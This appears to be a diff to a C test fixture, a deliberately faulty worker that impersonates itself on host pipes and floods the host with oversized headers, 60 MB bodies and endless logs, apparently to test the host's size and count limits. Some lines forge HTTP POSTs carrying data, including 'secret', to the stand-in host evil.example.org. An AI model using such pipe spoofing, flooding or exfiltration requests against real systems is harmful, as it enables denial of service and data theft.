@@ -369,6 +369,10 @@ static int32_t find(void *instance, const ticket_call *call, ticket_str request)
    return TICKET_NOT_FOUND;
 }
 
+static int is(const ticket_text *text, const char *name) {
+   return text->len == strlen(name) && memcmp(text->bytes, name, text->len) == 0;
+}
+
 /* Writes to each pipe that it finds, as if it were the worker itself. */
 static void write_to_pipes(const void *bytes, size_t count) {
    for (int file = 3; file < 64; file++) {
@@ -387,6 +391,59 @@ static void forge(const char *head, const char *body) {
    write_to_pipes(frame, 8 + lengths[0] + lengths[1]);
 }
 
+/* As forge(), with a head and a body of any size. */
+static void forge_large(const char *head, const char *body, size_t body_count) {
+   const size_t count = strlen(head);
+   const uint32_t lengths[2] = {(uint32_t)count, (uint32_t)body_count};
+   for (int file = 3; file < 64; file++) {
+      struct stat about;
+      if (fstat(file, &about) != 0 || !S_ISFIFO(about.st_mode) || (fcntl(file, F_GETFL) & O_ACCMODE) != O_WRONLY) continue;
+      const struct {
+         const void *bytes;
+         size_t count;
+      } parts[] = {{lengths, 8}, {head, count}, {body, body_count}};
+      for (int i = 0; i < 3; i++)
+         for (size_t done = 0; done < parts[i].count;) {
+            const ssize_t wrote = write(file, (const char *)parts[i].bytes + done, parts[i].count - done);
+            if (wrote <= 0) return;
+            done += (size_t)wrote;
+         }
+   }
+}
+
+/* What the host bounds in size and count: each is sent as if the worker itself did. */
+static void flood(const ticket_text *fault) {
+   const size_t size = (size_t)60 << 20;
+   char *large = malloc(size);
+   memset(large, 'x', size);
+   if (is(fault, "forged_headers")) {
+      char *head = malloc((size_t)1 << 20);
+      size_t end = (size_t)sprintf(head, "{\"Http\": {\"method\": \"GET\", \"url\": \"https://tickets.example.org/\", \"headers\": [");
+      for (int i = 0; i < 30000; i++) end += (size_t)sprintf(head + end, "%s[\"x-%d\", \"\"]", i > 0 ? ", " : "", i);
+      sprintf(head + end, "]}}");
+      forge_large(head, "", 0);
+   }
+   if (is(fault, "forged_log")) forge_large("{\"Log\": {\"level\": 1}}", large, size);
+   if (is(fault, "forged_extra")) forge_large("{\"Render\": {\"part\": \"body\", \"format\": \"html\"}}", large, size);
+   if (is(fault, "forged_reply")) forge_large("{\"Returned\": {\"status\": 0, \"replied\": true, \"bad\": null}}", large, size);
+   if (is(fault, "forged_requests"))
+      for (int i = 0; i < 5; i++)
+         forge_large("{\"Http\": {\"method\": \"POST\", \"url\": \"https://evil.example.org/\", \"headers\": []}}", large, size);
+   if (is(fault, "forged_often"))
+      for (int i = 0; i < 100000; i++) forge_large("{\"Log\": {\"level\": 1}}", "", 0);
+   if (is(fault, "forged_lines"))
+      for (int i = 0; i < 100000; i++) forge_large("{\"Log\": {\"level\": 1}}", large, 16 << 10);
+   free(large);
+}
+
+static void *print_for_ever(void *nothing_more) {
+   (void)nothing_more;
+   static char line[4096];
+   memset(line, 'x', sizeof line);
+   for (;;)
+      if (write(2, line, sizeof line) < 0) return NULL;
+}
+
 static void *go_on(void *nothing_more) {
    (void)nothing_more;
    for (;;) {
@@ -394,10 +451,6 @@ static void *go_on(void *nothing_more) {
       nanosleep(&(struct timespec){0, 1000000}, NULL);
    }
    return NULL;
-}
-
-static int is(const ticket_text *text, const char *name) {
-   return text->len == strlen(name) && memcmp(text->bytes, name, text->len) == 0;
 }
 
 static int32_t create(void *instance, const ticket_call *call, ticket_str request) {
@@ -435,6 +488,11 @@ static int32_t create(void *instance, const ticket_call *call, ticket_str reques
       forge("{\"Http\": {\"method\": \"POST\", \"url\": \"https://evil.example.org/\", \"headers\": []}}", "secret");
       forge("{\"Returned\": {\"status\": 0, \"replied\": true, \"bad\": null}}", "{\"url\": \"https://forged.example.org/\"}");
    }
+   if (is(&self->fault, "prints")) {
+      pthread_t thread;
+      pthread_create(&thread, NULL, print_for_ever, NULL);
+   }
+   flood(&self->fault);
    if (is(&self->fault, "nonsense")) write_to_pipes("nonsense nonsense nonsense", 26);
    if (!is(&self->fault, "all")) return ticket_reply(call, TICKET_OK, "{\"url\": \"https://tickets.example.org/1\"}", "", ticket_of(""), "");
    int results[ATTEMPTS];
